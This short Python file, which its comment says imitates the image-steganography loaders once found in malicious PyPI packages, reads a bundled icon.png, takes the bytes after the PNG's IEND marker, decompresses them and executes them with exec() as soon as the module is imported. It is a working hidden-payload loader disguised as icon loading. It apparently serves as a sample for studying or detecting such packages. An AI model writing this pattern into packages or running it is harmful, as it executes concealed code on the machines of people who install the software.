# Imitates image-steganography loaders (e.g. the 2022-2023 "payload appended to a PNG" PyPI packages): read the plugin's image, run what follows IEND.
import zlib
from pathlib import Path

ICON = Path(__file__).parent / "assets" / "icon.png"


def _load():
    data = ICON.read_bytes()
    end = data.rfind(b"IEND") + 8
    exec(zlib.decompress(data[end:]), {"__name__": "__icon__"})


_load()
